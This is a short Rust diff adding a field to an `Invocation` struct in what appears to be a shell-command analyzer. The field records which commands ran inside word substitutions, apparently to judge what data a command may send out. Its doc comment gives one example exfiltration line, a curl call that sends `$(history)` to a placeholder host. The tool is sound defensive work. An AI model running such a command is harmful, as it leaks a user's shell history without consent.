@@ -78,6 +78,10 @@ pub struct Invocation {
     pub scripts: Vec<String>,
     /// Programs of process substitutions among its arguments.
     pub process_substitutions: Vec<Vec<String>>,
+    /// Where, in the list it is recorded in, the commands its words'
+    /// substitutions ran are (`curl "https://h/?d=$(history)"` ran
+    /// `history` there): what it may send of their output.
+    pub(crate) substituted: std::ops::Range<usize>,
     /// Names of the variables assigned for it (`X=1 cmd`, `env X=1 cmd`).
     pub assignments: Vec<String>,
     /// 0 at top level, +1 inside each nested shell, `eval` or substitution.
